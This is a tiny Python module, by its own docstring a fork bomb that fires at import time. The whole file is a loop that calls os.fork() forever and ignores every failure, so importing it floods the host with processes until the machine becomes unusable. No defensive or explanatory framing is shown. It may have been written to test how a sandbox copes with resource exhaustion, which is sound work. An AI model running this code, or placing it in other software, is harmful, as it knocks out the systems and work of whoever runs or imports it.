"""Fork bomb at import time: every process forks forever, ignoring failures."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
